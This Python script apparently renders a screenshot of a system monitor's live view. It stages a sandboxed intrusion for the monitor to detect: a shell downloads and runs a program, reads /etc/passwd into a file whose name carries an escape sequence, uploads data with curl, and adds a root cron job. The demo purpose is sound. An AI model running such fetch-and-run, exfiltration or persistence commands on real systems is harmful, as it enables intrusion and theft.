# SPDX-License-Identifier: MIT
"""Draws docs/live.svg: a real session of the live view, as a terminal shows it.

`make picture` runs this as root. In namespaces of its own (network, mounts) a shell of
www-data downloads a program, runs it and removes it. Its tree is watched by the
built-in rules.
"""

from __future__ import annotations

import html
import os
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from itertools import groupby

from support.live_terminal import Terminal, ended
from support.running import REPOSITORY

_SIZE = 116, 25
_FILE = REPOSITORY / "docs/live.svg"
#: Pixels: of a character, and around all.
_WIDE, _HIGH, _EDGE = 7.8, 18, 16
_COLOURS = {
    **{"31": "#f47067", "32": "#8ddb8c", "33": "#e3b341", "34": "#6cb6ff"},
    **{"35": "#dcbdfb", "36": "#76e3ea", "90": "#768390"},
}
#: A blank that browsers leave alone.
_BLANK = "&#160;"
_BACK, _FRONT, _DIM = "#1c2128", "#cdd9e5", "#8b949e"

_PLACE = """\
mount -t tmpfs none /tmp && mount -t tmpfs none /dev/shm && mount -t tmpfs none \
/etc/cron.d && cd /tmp && mkdir -m 755 srv && ip link set lo up && \
ip address add 192.0.2.7/32 dev lo
cat >srv/update <<'END'
#!/bin/sh
id -un
for n in 1 2 3 4 5 6 7; do : >/dev/shm/.part$n; done
cat /etc/passwd | gzip >"/tmp/loot $(printf '\\033[2J').gz"
curl -s -T /dev/shm/.part1 http://192.0.2.7:8000/
END
python3 -m http.server -d srv -b 192.0.2.7 >/dev/null 2>&1 &
until (: >/dev/tcp/192.0.2.7/8000) 2>/dev/null; do sleep 0.05; done
chmod 1777 /tmp /dev/shm; mkdir -m 777 /tmp/web; cd /tmp/web
echo ready; read go
runuser -u www-data -- sh -c 'id; uname -a; curl -s -o /tmp/.update \
http://192.0.2.7:8000/update; chmod +x /tmp/.update; /tmp/.update; rm /tmp/.update; :'
echo '* * * * * root /tmp/.update' >/etc/cron.d/update
dd if=/proc/1/mem of=/dev/null count=1 2>/dev/null
kill %1
"""


def main() -> int:
    """Run the session, and write what its screen shows at the end."""
    terminal = Terminal(*_SIZE)
    stage = subprocess.Popen(
        ["unshare", "-n", "-m", "bash", "-c", _PLACE],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    assert stage.stdin is not None
    assert stage.stdout is not None
    assert stage.stdout.readline() == b"ready\n"
    command = [sys.executable, "-P", "-m", "sysmonlx", "-t", f"tree:{stage.pid}"]
    environment = {"PYTHONPATH": os.fspath(REPOSITORY), "TERM": "xterm"}
    environment |= {"LC_ALL": "C.UTF-8", "PATH": os.environ["PATH"]}
    try:
        with terminal.running(command, environment) as pid:
            terminal.shows(lambda lines: lines[-1].startswith("── "), "status")
            time.sleep(1)
            stage.stdin.write(b"\n")
            stage.stdin.close()
            stage.stdout.read()
            stage.wait()
            time.sleep(1.5)  # the status row counts once a second
            cells = [row[:] for row in terminal.model.cells]
            terminal.type("q")
            ended(pid)
    finally:
        terminal.close()
    _FILE.write_text(picture(cells), "utf-8")
    return 0


def picture(cells: list[list[str]]) -> str:
    """Return the lines of a screen as SVG."""
    while len(cells) > 1 and not "".join(cells[-2]).strip():
        del cells[-2]
    width = round(len(cells[0]) * _WIDE) + 2 * _EDGE
    height = len(cells) * _HIGH + 2 * _EDGE
    lines = [
        f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}"'
        ' role="img" aria-label="The live view: events of a machine, one row each">',
        "<!-- {}-License-Identifier: MIT -->".format("SPDX"),
        '<!-- A real session; made by "make picture". -->',
        f'<rect width="{width}" height="{height}" rx="8" fill="{_BACK}"/>',
        '<g font-family="ui-monospace, SFMono-Regular, Menlo, Consolas, monospace"'
        f' font-size="13" fill="{_FRONT}" xml:space="preserve">',
    ]
    for number, row in enumerate(cells):
        y = _EDGE + (number + 1) * _HIGH - 5
        lines += _drawn(row, y)
    return "\n".join([*lines, "</g>", "</svg>", ""])


def _drawn(row: list[str], y: int) -> Iterator[str]:
    """Yield the parts of a line that look the same."""
    at = 0
    for style, run in groupby(row, key=lambda each: getattr(each, "style", "")):
        text = "".join(each or " " for each in run)
        begin, at = at, at + len(text)
        if not text.strip():
            continue
        if "7" not in style.split(";"):  # blanks at its ends are not seen
            begin += len(text) - len(text.lstrip())
            text = text.strip()
        x, wide = _EDGE + begin * _WIDE, len(text) * _WIDE
        codes = style.split(";")
        fill = next((_COLOURS[code] for code in codes if code in _COLOURS), "")
        fill = fill or (_DIM if "2" in codes else _FRONT)
        if "7" in codes:
            yield (
                f'<rect x="{x:.1f}" y="{y - 13}" width="{wide:.1f}" height="{_HIGH}"'
                f' fill="{fill}"/>'
            )
            fill = _BACK
        weight = ' font-weight="bold"' if "1" in codes else ""
        yield (
            f'<text x="{x:.1f}" y="{y}" textLength="{wide:.1f}"'
            f' lengthAdjust="spacingAndGlyphs" fill="{fill}"{weight}>'
            f"{html.escape(text, quote=False).replace(' ', _BLANK)}</text>"
        )


def rows_of(drawn: str) -> list[str]:
    """Return the lines of a picture as text."""
    lines: dict[str, str] = {}
    found = re.findall(r'<text x="([0-9.]+)" y="(\d+)"[^>]*>([^<]*)</text>', drawn)
    for x, y, text in found:
        column = round((float(x) - _EDGE) / _WIDE)
        lines[y] = lines.get(y, "").ljust(column) + html.unescape(text).replace(
            "\u00a0", " "
        )
    return [*lines.values()]


if __name__ == "__main__":
    sys.exit(main())
